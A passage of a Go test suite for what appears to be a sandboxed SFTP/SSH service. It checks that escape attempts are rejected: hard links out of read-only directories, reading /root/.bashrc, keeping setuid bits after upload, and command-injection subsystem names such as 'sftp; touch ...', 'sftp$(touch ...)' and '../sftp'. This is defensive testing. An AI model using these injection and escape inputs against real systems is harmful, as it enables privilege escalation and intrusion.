		"a hard link in":         "ln " + a.readOnlyDir + "/file " + a.writableDir + "/hard",
		"our sockets' directory": "put " + local + " " + a.dir + "/run/x",
		"reading elsewhere":      "get /root/.bashrc " + local + ".out",
	} {
		if out, err := sftp(commands + "\n"); err == nil {
			t.Errorf("%s: %s", what, out)
		}
	}
	if out, err := sftp("put " + local + " " + a.writableDir + "/suid\nchmod 6755 " + a.writableDir + "/suid\n"); err != nil {
		t.Errorf("an ordinary upload: %v: %s", err, out)
	}
	st, err := os.Stat(a.writableDir + "/suid")
	must(t, err)
	if st.Mode()&(os.ModeSetuid|os.ModeSetgid) != 0 || st.Sys().(*syscall.Stat_t).Uid != 1000 {
		t.Errorf("the file has mode %s and uid %d", st.Mode(), st.Sys().(*syscall.Stat_t).Uid)
	}
}

func (a *arena) metacharacters(t *testing.T) {
	mark := a.writableDir + "/marked"
	cmd := exec.Command(a.supervisor(), "exec", "--run-dir", a.dir+"/run", "--", "true; touch "+mark)
	if err := cmd.Run(); err == nil || cmd.ProcessState.ExitCode() != 127 {
		t.Errorf("exec ended with %d", cmd.ProcessState.ExitCode())
	}
	for _, name := range []string{"sftp; touch " + mark, "sftp$(touch " + mark + ")", "../sftp", "splitpod-main; touch " + mark} {
		ssh := a.ssh()
		ssh.Args = slices.Concat([]string{"ssh"}, a.sshOptions(), []string{"-s", "sandbox", name})
		if out, err := ssh.CombinedOutput(); err == nil {
			t.Errorf("the subsystem %q was started: %s", name, out)
		}
	}
	if _, err := os.Stat(mark); err == nil {
		t.Error("a shell read what nobody gave to one")
	}
}
